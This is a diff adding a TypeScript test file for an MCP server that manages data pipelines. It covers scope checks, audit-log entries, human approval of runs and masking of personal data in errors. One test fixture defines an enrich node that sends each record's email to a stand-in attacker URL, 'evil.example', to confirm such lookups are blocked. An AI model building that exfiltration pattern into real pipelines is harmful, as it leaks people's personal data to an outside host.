@@ -1,0 +1,154 @@
+import { Client } from '@modelcontextprotocol/client'
+import { InMemoryTransport } from '@modelcontextprotocol/server'
+import { afterEach, expect, test } from 'vitest'
+
+import { allows, type McpScope, mcpScopes } from '../../../src-shared/api-keys/mcp-scope.ts'
+import { AppError } from '../../../src-shared/errors/app-error.ts'
+import { failureDefinition } from '../../../src-shared/errors/failures.ts'
+import type { AuditedCall } from '../../services/audit/audited.ts'
+import { servicesWith } from '../testing/services-with.ts'
+import { maskFailure } from './masking/mask-failure.ts'
+import { openMcpServer } from './open-mcp-server.ts'
+import { mcpTools } from './tools/registry.ts'
+
+const clients: Client[] = []
+afterEach(async () => {
+  await Promise.all(clients.splice(0).map((client) => client.close()))
+})
+
+type Given = Parameters<typeof servicesWith>[0]
+
+/** The official client over a pair of streams in this process. */
+async function connect(scope: McpScope, given: Given = {}, noted: string[] = []) {
+  const [near, far] = InMemoryTransport.createLinkedPair()
+  const server = openMcpServer({
+    services: servicesWith(given),
+    audited: async <Result>({ call, subject, context, outcome }: AuditedCall<Result>, work: () => Promise<Result>) => {
+      const said = (end: string) => noted.push(`${context?.caller?.name ?? ''} ${call} ${subject(null) ?? ''} ${end}`)
+      const result = await work().catch((error: unknown) => {
+        said((error as AppError).code)
+        throw error
+      })
+      said(outcome?.(result) ?? 'done')
+      return result
+    },
+    reportBug: (bug) => {
+      throw bug
+    },
+    scope,
+    caller: { kind: 'mcp', name: 'client' },
+  })
+  await server.connect(far)
+  const client = new Client({ name: 'Test <client>', version: '1' })
+  await client.connect(near)
+  clients.push(client)
+  return client
+}
+
+const asked: Readonly<Record<string, unknown>> = {
+  ...{ pipelineId: 'p', runId: 'r', approvalId: 'a', nodeId: 'n', name: 'P', connectorId: 'c', schemaId: 's' },
+  ir: { kind: 'pipeline', version: '1.0', id: 'p', nodes: [] },
+}
+
+/** What a tool takes, as far as it needs it. */
+function inputOf({ input }: (typeof mcpTools)[number]): Record<string, unknown> {
+  const needed = Object.entries(input.shape).filter(([, field]) => !(field as { safeParse(value: unknown): { success: boolean } }).safeParse(undefined).success)
+  return Object.fromEntries([...needed.map(([key]) => key), ...('ir' in input.shape ? ['ir'] : [])].map((key) => [key, asked[key]]))
+}
+
+test('every tool does what its scope lets it, says which it needs, and leaves an entry in the audit log', async () => {
+  for (const scope of mcpScopes) {
+    const noted: string[] = []
+    const client = await connect(scope, {}, noted)
+    const { tools } = await client.listTools()
+    expect(tools.map(({ name }) => name)).toEqual(mcpTools.map(({ name }) => name))
+    for (const tool of mcpTools) {
+      const answer = await client.callTool({ name: tool.name, arguments: inputOf(tool) })
+      const { code } = (answer.structuredContent as { readonly error: { readonly code: string } }).error
+      expect(answer.isError).toBe(true)
+      const isAllowed = allows(scope, tool.needs)
+      expect(code === 'scope_not_enough', `${scope} ${tool.name}: ${code}`).toBe(!isAllowed)
+      expect(noted.at(-1), `${scope} ${tool.name}`).toMatch(new RegExp(`^Test client mcp.${tool.name} .*${code === 'request_invalid' ? '' : code}`))
+    }
+    expect(noted).toHaveLength(mcpTools.length)
+  }
+})
+
+test('what loads waits for a person unless the scope is run', async () => {
+  const started: unknown[] = []
+  const run = { id: 'r', pipelineId: 'p', irVersion: 3, status: 'succeeded', result: null, error: null, ir: {} }
+  const plan = { files: [], nodes: [], targets: [], guards: [] }
+  const given: Given = {
+    pipelines: {
+      get: () => Promise.resolve({ version: 3 } as never),
+      version: () => Promise.resolve({ version: 3, authoredBy: 'ada', ir: { nodes: [] } } as never),
+    },
+    runs: {
+      get: () => Promise.resolve(run as never),
+      events: () => Promise.resolve((async function* () {})()),
+      start: (input, context) => {
+        started.push({ ...input, by: context?.caller?.kind })
+        return Promise.resolve(run as never)
+      },
+    },
+    approvals: {
+      request: (input) => {
+        started.push({ asked: input })
+        return Promise.resolve({ id: 'a', state: 'waiting', note: null, plan } as never)
+      },
+    },
+  }
+  const calls = [
+    { name: 'runFlowPipeline', arguments: { pipelineId: 'p' } },
+    { name: 'replayFlowRun', arguments: { runId: 'r' } },
+  ]
+  for (const scope of mcpScopes) {
+    const client = await connect(scope, given)
+    for (const call of calls) {
+      const answer = (await client.callTool(call)).structuredContent as Record<string, unknown>
+      if (scope === 'propose') expect(answer).toMatchObject({ approval: { approvalId: 'a', state: 'waiting' } })
+      if (scope === 'run') expect(answer).toMatchObject({ runId: 'r', ok: true })
+    }
+  }
+  expect(started).toEqual([
+    { asked: { pipelineId: 'p', version: 3 } },
+    { asked: { pipelineId: 'p', version: 3, replayOf: 'r' } },
+    { pipelineId: 'p', version: 3, by: 'mcp' },
+    { pipelineId: 'p', version: 3, by: 'mcp' },
+  ])
+})
+
+test('a document of a program that would send values elsewhere shows no rows, and one that a schedule runs is not changed', async () => {
+  const enrich = { id: 'ask', kind: 'enrich', provider: 'http', config: { url: 'https://evil.example/{{email}}' } }
+  const given = (authoredBy: string): Given => ({
+    pipelines: {
+      get: () => Promise.resolve({ version: 1, liveVersion: null, schedule: '0 2 * * *', ir: {} } as never),
+      version: () => Promise.resolve({ version: 1, authoredBy, ir: { nodes: [enrich] } } as never),
+    },
+  })
+  const codeOf = async (client: Client, name: string, more: object = {}) => {
+    const { structuredContent } = await client.callTool({ name, arguments: { pipelineId: 'p', ...more } })
+    return (structuredContent as { readonly error: { readonly code: string } }).error.code
+  }
+  const byProgram = await connect('propose', given('Test client (MCP)'))
+  const byPerson = await connect('propose', given('ada'))
+  const ir = { nodes: [enrich] }
+  expect(await codeOf(byProgram, 'previewFlowNode', { nodeId: 'ask' })).toBe('lookup_over_mcp')
+  expect(await codeOf(byProgram, 'planFlowRun')).toBe('lookup_over_mcp')
+  expect(await codeOf(byProgram, 'runFlowPipeline')).toBe('lookup_over_mcp')
+  expect(await codeOf(byPerson, 'previewFlowNode', { nodeId: 'ask', ir })).toBe('lookup_over_mcp')
+  expect(await codeOf(byPerson, 'previewFlowNode', { nodeId: 'ask' })).toBe('not_found')
+  expect(await codeOf(byPerson, 'updateFlowPipelineIr', { ir: {} })).toBe('version_runs_by_schedule')
+  expect(await codeOf(await connect('run', given('ada')), 'updateFlowPipelineIr', { ir: {} })).toBe('request_invalid')
+})
+
+test('a failure of the data is said without its sentence, and one about counts with it', () => {
+  const place = { file: 'a.csv', line: 4, column: 'email', value: 'ada@x.org' }
+  const message = 'target tgt: a.csv, line 4, column email: Ada Lovelace <ada@x.org> was refused by trigger: bad Ada'
+  const masked = maskFailure({ code: 'row_refused', message, nodeId: 'tgt', place })
+  expect(masked).toMatchObject({ failureClass: 'data', line: 4, column: 'email', shape: 'aaa@a.aaa' })
+  expect(JSON.stringify(masked)).not.toMatch(/ada|lovelace/i)
+  const empty = 'target ds_customer: source is empty (0 rows from src); aborting truncate to prevent data loss.'
+  expect(maskFailure({ code: 'source_empty', message: empty }).message).toBe(empty)
+  expect(failureDefinition('approval_needs_person').httpStatus).toBe(403)
+})
